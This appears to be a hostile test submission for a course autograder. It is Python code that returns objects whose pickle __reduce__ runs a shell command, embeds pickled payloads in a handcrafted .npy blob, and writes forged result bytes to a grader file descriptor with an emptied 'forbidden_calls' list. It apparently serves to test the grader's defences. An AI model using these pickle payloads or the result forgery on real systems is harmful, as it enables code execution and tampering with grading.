"""Returns what a careless grader unpickles: object arrays, __reduce__, pickled bytes in a .npy."""
# ruff: noqa

# %% before
import os
import pickle


class Bomb:
    def __reduce__(self):
        return os.system, ("echo pwned > /tmp/introml-pwned",)


print("attempted")


# %% loss
def loss(w, x, y):
    return np.array([Bomb()], dtype=object)


# %% gradient
def gradient(w, x, y):
    return Bomb()


# %% descent
class Descent:
    def __init__(self, dimensions, rate=0.1):
        pass

    def step(self, x, y):
        return pickle.dumps(Bomb()).decode("latin-1")


# %% classify
def classify(x, labels, new):
    header = b"{'descr': '|O', 'fortran_order': False, 'shape': (1,), }"
    blob = b"\x93NUMPY\x01\x00" + len(header).to_bytes(2, "little") + header + pickle.dumps(Bomb())
    text = b'{"dict":[["id",99],["value",{"array":0}],["forbidden_calls",{"list":[]}]]}'
    lengths = len(text).to_bytes(4, "little") + (1).to_bytes(4, "little")
    os.write(3, b"IML1" + lengths + len(blob).to_bytes(8, "little") + text + blob)
    return 1
